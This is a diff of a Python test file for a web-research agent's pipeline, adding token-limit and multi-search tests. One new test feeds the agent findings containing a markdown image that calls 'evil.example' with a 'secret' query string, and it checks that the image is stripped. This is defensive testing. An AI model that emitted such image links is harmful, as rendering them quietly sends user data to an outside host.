@@ -1,9 +1,12 @@
 """The web agent: asks whether it is needed, searches, reads within its budget, and hands over its sources."""
 
+import json
 from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
+from pydantic_ai.usage import UsageLimits
 
 from knapper.agents.pipeline.requests import Request
 from knapper.agents.presets import AgentToggles
@@ -15,7 +18,7 @@ from knapper.net.pages import Page
 from knapper.net.web import Web
 from tests.agents import runs, scripts
 from tests.agents.runs import Ended
-from tests.agents.scripted import Call
+from tests.agents.scripted import Call, Reply
 from tests.agents.scripts import Cast
 from tests.tools import opened
 
@@ -54,11 +57,19 @@ def vault(tmp_path: Path) -> opened.Opener:
     return opened.vault(tmp_path, {"Garden.md": "# Garden\n\nThe fence is green.\n"})
 
 
-def do(vault: opened.Opener, cast: Cast, web: Paper, settings: ResearchSettings | None = None) -> Ended:
+def do(
+    vault: opened.Opener,
+    cast: Cast,
+    web: Paper,
+    settings: ResearchSettings | None = None,
+    limits: UsageLimits | None = None,
+    **more: Any,  # noqa: ANN401 - any of a request's fields
+) -> Ended:
     with runs.context(vault) as context:
         there = replace(context, open_web=lambda: web)
-        own = runs.agents(cast, web=settings or ResearchSettings())
-        return runs.run(own, there, Request(task="what paint?", current="Garden.md", toggles=BOTH))
+        own = runs.agents(cast, web=settings or ResearchSettings(), limits=limits)
+        usual = Request(task="what paint?", current="Garden.md", toggles=BOTH)
+        return runs.run(own, there, replace(usual, **more))
 
 
 def test_it_has_the_four_tools_and_settings_of_the_document(vault: opened.Opener) -> None:
@@ -213,3 +224,53 @@ def test_where_the_web_is_off_the_person_is_told_and_the_task_goes_on(vault: ope
     assert ended.outcome.answer == "Green."
     assert "web" not in cast.asked
     assert any("the web wasn't searched" in str(one) for one in ended.outcome.notices)
+
+
+def test_what_it_says_without_a_task_loads_nothing_from_elsewhere(vault: opened.Opener) -> None:
+    said = {"findings": "Green. ![x](https://evil.example/?q=secret)"}
+    cast = Cast({"web": [[NEEDED], [Call("web_search", {"query": "paint"})], [Call("finalize_web_context", said)]]})
+
+    ended = do(vault, cast, Paper({"https://a.example/": "x"}), toggles=AgentToggles(web=True, task=False))
+
+    assert ended.outcome.answer == "Green. [image left out: evil.example]"
+
+
+def test_all_agents_of_a_run_share_one_limit_of_tokens(vault: opened.Opener) -> None:
+    cast = Cast({"web": [[NOT_NEEDED]], "task": [scripts.task("Green.")]})
+    alone = do(vault, cast, Paper({}))
+    web, task = (alone.run.spent_now[phase].tokens for phase in ("web", "task"))
+    limits = UsageLimits(total_tokens_limit=max(web, task) + 10)
+
+    ended = do(vault, cast, Paper({}), limits=limits)
+
+    assert ended.outcome.state == "limit"
+    assert ended.outcome.error is not None
+    assert ended.outcome.error["code"] == "budget_spent"
+
+
+def test_a_second_search_adds_to_what_the_first_one_found(vault: opened.Opener) -> None:
+    def searched(query: str, url: str, findings: str) -> list[Reply]:
+        taken = {"findings": findings, "sources": [{"url": url, "extracted": findings}]}
+        return [[NEEDED], [Call("web_search", {"query": query})], [Call("finalize_web_context", taken)]]
+
+    nexts = [[json.dumps({"next": one})] for one in ("web", "scout", "web", "task")]
+    cast = Cast(
+        {
+            "orchestrator": nexts,
+            "scout": [[scripts.select("Garden.md")]],
+            "web": [
+                *searched("paint", "https://a.example/", "Linseed lasts."),
+                *searched("price", "https://b.example/", "It is cheap."),
+            ],
+            "task": [scripts.task("Green.")],
+        }
+    )
+    pages = Paper({"https://a.example/": "x", "https://b.example/": "y"})
+
+    ended = do(vault, cast, pages, toggles=AgentToggles(scout=True, web=True), orchestrate=True)
+
+    assert ended.run.pipeline.web is not None
+    assert ended.run.pipeline.web.search_queries == ("paint", "price")
+    assert [one.extracted for one in ended.run.pipeline.web.sources] == ["Linseed lasts.", "It is cheap."]
+    assert "Linseed lasts." in cast.prompts("task")
+    assert "It is cheap." in cast.prompts("task")
